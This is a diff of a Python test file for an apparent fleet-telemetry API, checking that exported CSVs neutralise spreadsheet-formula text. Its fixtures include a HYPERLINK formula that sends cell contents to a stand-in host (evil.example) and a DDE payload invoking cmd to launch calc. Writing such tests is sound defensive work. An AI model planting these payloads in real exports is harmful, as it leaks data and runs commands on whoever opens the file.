@@ -9,10 +9,9 @@ import zipfile
 import pandas as pd
 import pytest
 
-from api.app import API_PREFIX
 from fleet.db import session
 from fleet.tables import MachineEvent
-from tests.api.support import NOW, World, build_world, store_minutes
+from tests.api.support import NOW, World, build_world, exported, resolve_alert, store_fw
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
 
@@ -29,24 +28,14 @@ def _rows(zipped: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
 def test_formula_text_is_quoted_in_the_csvs_and_kept_as_it_is_in_parquet(world: World) -> None:
     acme, machine = world.customers["acme"], world.machines["acme"][0]
     alert = world.alerts["acme"][0]
-    with world.client() as client:
-        tech = world.headers("tech")
-        assert client.post(f"{API_PREFIX}/alerts/{alert}/ack", headers=tech).status_code == 200
-        body = {"finding": "other", "text": FORMULA}
-        assert client.post(f"{API_PREFIX}/alerts/{alert}/resolve", json=body, headers=tech).status_code == 200
+    resolve_alert(world, alert, FORMULA)
     with session(world.engine) as sess:  # what a machine sent on its events topic
         event = {"customer_id": acme, "machine_id": machine, "ts": NOW, "received_at": NOW}
         sess.add(MachineEvent(**event, seq=1, code="@SUM(1+1)*cmd|' /C calc'!A0", text="\tx"))
         sess.add(MachineEvent(**event, seq=2, code="-1", text="+41"))
     # A machine's firmware string is its own text too; a reading below zero is a number.
-    store_minutes(world, NOW, 2, lambda i: {"temperature_c": -7.5 - i})
-    with world.engine.begin() as conn:
-        conn.exec_driver_sql("UPDATE telemetry SET fw = '-2+3' WHERE seq = 1")
-
-    with world.client() as client:
-        answer = client.get(f"{API_PREFIX}/export", headers=world.headers("cust-acme"))
-    assert answer.status_code == 200, answer.text
-    zipped = zipfile.ZipFile(io.BytesIO(answer.content))
+    store_fw(world, "-2+3", lambda i: {"temperature_c": -7.5 - i})
+    zipped = exported(world)
 
     alerts = {row["id"]: row for row in _rows(zipped, "alerts.csv")}
     assert alerts[str(alert)]["finding_text"] == "'" + FORMULA
